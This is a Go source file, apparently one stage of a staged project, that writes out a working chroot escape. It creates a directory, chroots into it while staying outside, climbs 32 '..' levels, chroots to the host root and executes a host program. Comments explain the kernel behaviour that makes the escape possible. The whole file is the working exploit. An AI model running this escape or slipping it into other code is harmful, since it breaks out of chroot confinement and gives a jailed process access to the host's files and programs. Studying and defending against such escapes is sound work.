package main

import (
	"strings"

	"golang.org/x/sys/unix"

	"skiff.example/stage01-chroot/plan"
)

// The way out of a root, as known since the 1990s. chroot(2) says so itself,
// under NOTES: "this call does not change the current working directory".
// What it needs is CAP_SYS_CHROOT, which root in a chroot has, and nothing
// that the host has left behind.

// levels is how many directories up the way out goes. Above the host's "/"
// there is nothing: ".." leads to "/" again, so too many do no harm.
const levels = 32

// escape is the plan of a process that leaves its root. It makes a directory
// its root and stays outside of it. ".." stops at the root, but the kernel
// only notices the root when it comes past it (follow_dotdot, fs/namei.c), and
// this process is already above: nothing stops it before the host's "/".
func escape(argv []string) *plan.Plan {
	const deeper = "way-out"
	p := &plan.Plan{}
	p.Section(1, "a root below the working directory")
	p.Add(
		plan.Mkdirat(plan.CWD, deeper, 0o700).Accept(unix.EEXIST),
		plan.Chroot(deeper),
	)
	p.Section(1, "from there, up and out")
	p.Add(
		plan.Chdir(strings.TrimSuffix(strings.Repeat("../", levels), "/")),
		plan.Chroot("."),
	)
	p.Section(1, "a program of the host")
	p.Add(plan.Execve(argv[0], argv, environment))
	return p
}
